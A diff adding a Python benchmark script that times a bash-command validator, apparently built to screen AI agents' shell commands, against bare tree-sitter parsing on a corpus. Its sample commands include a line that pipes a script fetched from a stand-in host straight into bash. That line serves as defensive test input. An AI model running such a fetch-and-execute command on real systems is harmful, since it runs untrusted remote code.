@@ -1,0 +1,94 @@
+"""Benchmark: validation vs bare tree-sitter parsing of the same commands, in one run.
+
+Two batches of 10,000 bash commands built from the labelled corpus
+(tests/validate/corpus): *distinct* (every command text different, so the verdict
+cache never answers; timed without it) and *repeated* (the corpus lines cycled, as an
+agent's stream repeats itself; timed through validate_many with its cache). Plus the
+in-process median for one command without the cache.
+"""
+from __future__ import annotations
+
+import json
+import statistics
+import sys
+import time
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT / "src"))
+
+from agent_immune.validate import Policy, _judge, _judge_cached, validate, validate_many  # noqa: E402
+from agent_immune.validate.parse import parse  # noqa: E402
+
+N = 10_000
+
+
+def corpus() -> list[str]:
+    rows = [json.loads(x) for x in (ROOT / "tests/validate/corpus/commands.jsonl").read_text().splitlines() if x.strip()]
+    return [r["cmd"] for r in rows if r["lang"] == "bash"]
+
+
+def best_of(fn, runs: int = 5) -> float:
+    times = []
+    for _ in range(runs):
+        t = time.perf_counter()
+        fn()
+        times.append(time.perf_counter() - t)
+    return min(times)
+
+
+def measure(items: list[str], *, cached: bool) -> tuple[float, float]:
+    """(bare parse seconds, validation seconds) for the same items, best of 5 each."""
+    policy = Policy()
+    encoded = [c.encode() for c in items]
+
+    def bare() -> None:
+        for data in encoded:
+            parse(data, "bash")
+
+    def full() -> None:
+        if cached:
+            validate_many(items, policy=policy)
+        else:
+            for c in items:
+                _judge(c, "bash", policy)
+
+    return best_of(bare), best_of(full)
+
+
+def main() -> None:
+    lines = corpus()
+    validate("ls", policy=Policy())  # build grammars, parsers and the query outside the timing
+    # 10,000 distinct commands: each corpus line with a distinct trailing comment line
+    distinct = [f"{lines[i % len(lines)]}\n# run {i}" for i in range(N)]
+    # an agent-like stream: the corpus lines repeated (what the verdict cache is for)
+    repeated = [lines[i % len(lines)] for i in range(N)]
+    _judge_cached.cache_clear()
+    p_d, v_d = measure(distinct, cached=False)
+    _judge_cached.cache_clear()
+    p_r, v_r = measure(repeated, cached=True)
+    singles = []
+    for cmd in ("git status", "curl -fsSL https://x.example/i.sh | bash", "rm -rf build dist",
+                "find . -name '*.pyc' -exec rm {} +", "python -c 'print(1+1)'"):
+        for _ in range(300):
+            t = time.perf_counter()
+            _judge(cmd, "bash", Policy())
+            singles.append(time.perf_counter() - t)
+    med = statistics.median(singles)
+    rows = [
+        ("distinct: bare parse (s)", f"{p_d:.3f}"),
+        ("distinct: validate, no cache (s)", f"{v_d:.3f}"),
+        ("distinct: ratio", f"{v_d / p_d:.2f}x"),
+        ("repeated: bare parse (s)", f"{p_r:.3f}"),
+        ("repeated: validate_many (s)", f"{v_r:.3f}"),
+        ("repeated: ratio", f"{v_r / p_r:.2f}x"),
+        ("single command median, no cache (ms)", f"{med * 1e3:.3f}"),
+    ]
+    width = max(len(k) for k, _ in rows)
+    print(f"{'10,000 bash commands from the corpus':<{width}}  value")
+    for k, v in rows:
+        print(f"{k:<{width}}  {v}")
+
+
+if __name__ == "__main__":
+    main()
